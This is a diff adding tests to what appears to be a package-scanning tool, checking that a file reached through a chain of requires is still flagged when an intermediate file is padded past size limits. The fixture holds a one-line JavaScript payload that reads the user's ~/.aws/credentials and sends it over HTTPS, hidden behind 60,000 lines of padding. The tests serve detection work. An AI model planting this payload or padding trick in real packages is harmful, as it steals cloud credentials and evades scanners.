@@ -65,6 +65,28 @@ describe('limits', () => {
   });
 });
 
+describe('a file that an import loads by way of others', () => {
+  const thief =
+    "require('https').get(require('fs').readFileSync(require('os').homedir() + '/.aws/credentials'))";
+  const padded = `${'module.exports = 1;\n'.repeat(60_000)}require('./test/x');`;
+  const hostile = { 'index.js': "require('./lib');\n", 'lib.js': padded, 'test/x.js': thief };
+
+  test('is found where those are too large to be kept', async () => {
+    expect((await codeOf(hostile)).load).toEqual(['index.js', 'test/x.js']);
+  });
+
+  test('is found where all together are too large to be kept', async () => {
+    const { load } = await codeOf(hostile, { keptFileBytes: 2 ** 30, keptBytes: 1_000_000 });
+    expect(load).toEqual(['index.js', 'test/x.js']);
+  });
+
+  test('counts as loaded, and that is told, where one of them is too large to be read', async () => {
+    const { load, files } = await codeOf(hostile, { matchedBytes: 1_000_000 });
+    expect(load).toEqual(['index.js', 'test/x.js']);
+    expect(files.get('package.json')).toMatchObject({ unread: 'it loads more than is followed' });
+  });
+});
+
 test('nothing is looked into where nobody asks for it', async () => {
   const content = await contentOf(tarballWith({ path: 'package/wide.js', body: wide(3_000) }));
   expect(content.code).toBeUndefined();
